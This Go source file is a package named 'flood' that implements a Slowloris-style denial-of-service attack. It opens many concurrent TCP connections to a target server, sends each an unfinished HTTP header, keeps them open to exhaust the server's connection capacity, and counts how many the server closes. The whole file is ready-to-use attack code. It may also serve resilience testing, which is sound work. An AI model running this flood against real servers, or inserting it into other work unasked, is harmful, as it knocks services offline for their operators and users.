package flood

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// StartOfRequest is what a flood's connection sends by default: a request
// line and the start of a header that never ends.
const StartOfRequest = "GET / HTTP/1.1\r\nX: "

// Config is one flood.
type Config struct {
	// Addr is the server's host:port. Required.
	Addr string
	// From is the local IP the connections come from; default any.
	From string
	// Conns is how many connections to open in all. Required, at least 1.
	Conns int
	// Parallel is how many are being opened at once; default 64.
	Parallel int
	// Start is what each connection sends; default StartOfRequest.
	Start string
}

// Result is what a flood did so far.
type Result struct {
	// Opened connected; Failed could not (FirstError says why).
	Opened, Failed int
	FirstError     error
	// ClosedByServer is how many of the opened the server has closed.
	ClosedByServer int
	// PeakHeld is the most connections open at once on this side.
	PeakHeld int
}

// Flood is a running flood.
type Flood struct {
	cfg    Config
	ctx    context.Context
	cancel context.CancelFunc
	done   chan struct{} // every connection opened or failed
	wg     sync.WaitGroup

	mu    sync.Mutex
	next  int // connections started
	held  map[net.Conn]struct{}
	res   Result
	ended bool // Close called
}

// Start validates cfg and starts opening its connections.
func Start(cfg Config) (*Flood, error) {
	if cfg.Addr == "" || cfg.Conns < 1 {
		return nil, fmt.Errorf("flood: Addr and Conns (at least 1) are required, got %q and %d", cfg.Addr, cfg.Conns)
	}
	if cfg.Parallel <= 0 {
		cfg.Parallel = 64
	}
	if cfg.Start == "" {
		cfg.Start = StartOfRequest
	}
	f := &Flood{cfg: cfg, done: make(chan struct{}), held: map[net.Conn]struct{}{}}
	f.ctx, f.cancel = context.WithCancel(context.Background())
	d := &net.Dialer{Timeout: 30 * time.Second}
	if cfg.From != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(cfg.From)}
	}
	var dialers sync.WaitGroup
	for range min(cfg.Parallel, cfg.Conns) {
		dialers.Go(func() {
			for f.take() {
				f.open(d)
			}
		})
	}
	f.wg.Go(func() {
		dialers.Wait()
		close(f.done)
	})
	return f, nil
}

// take claims the next connection to open; false when all are.
func (f *Flood) take() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.ended || f.next == f.cfg.Conns {
		return false
	}
	f.next++
	return true
}

// open opens one connection, sends the start of its request and leaves
// a reader on it that closes it once the server has.
func (f *Flood) open(d *net.Dialer) {
	c, err := d.DialContext(f.ctx, "tcp", f.cfg.Addr)
	f.mu.Lock()
	defer f.mu.Unlock()
	if err != nil {
		f.res.Failed++
		if f.res.FirstError == nil {
			f.res.FirstError = err
		}
		return
	}
	f.res.Opened++
	if f.ended {
		_ = c.Close()
		return
	}
	f.held[c] = struct{}{}
	f.res.PeakHeld = max(f.res.PeakHeld, len(f.held))
	f.wg.Go(func() {
		// A write the server refused ends like a read: it closed c.
		_, err := io.WriteString(c, f.cfg.Start)
		if err == nil {
			_, err = c.Read(make([]byte, 1))
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		if _, ok := f.held[c]; ok && !errors.Is(err, net.ErrClosed) {
			f.res.ClosedByServer++
		}
		delete(f.held, c)
		_ = c.Close()
	})
}

// Done is closed once every connection was opened or failed.
func (f *Flood) Done() <-chan struct{} { return f.done }

// Result is what the flood did so far.
func (f *Flood) Result() Result {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.res
}

// Close stops opening connections, closes those still open and waits for
// every goroutine of the flood.
func (f *Flood) Close() {
	f.mu.Lock()
	f.ended = true
	for c := range f.held {
		delete(f.held, c) // a reader that finds it gone counts no server close
		_ = c.Close()
	}
	f.mu.Unlock()
	f.cancel()
	f.wg.Wait()
}
